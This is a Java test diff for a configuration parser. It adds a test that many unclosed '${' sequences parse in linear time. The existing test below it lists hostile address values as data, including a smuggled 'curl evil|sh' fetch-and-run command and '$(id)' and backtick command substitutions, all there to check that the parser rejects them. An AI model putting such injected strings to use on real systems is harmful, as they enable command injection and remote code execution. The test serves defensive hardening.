@@ -86,6 +86,13 @@ class HostileConfigTest {
     }
 
     @Test
+    void manyUnclosedVariables_areReadInLinearTime() {
+        String text = "set $a " + "${".repeat(400_000) + ";\nhttp { }\n";
+        List<Directive> ds = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> ConfigParser.parse(text, "/v.conf"));
+        assertFalse(ds.isEmpty());
+    }
+
+    @Test
     void hostileAddresses_areNotEndpoints() {
         for (String bad : List.of("127.0.0.1;curl evil|sh:80", "a b:80", "$(id):80", "x`id`", "unix:/run/a;b.sock",
                 "unix:/run/a\nb.sock", "[::1;]:80", "host:99999")) {
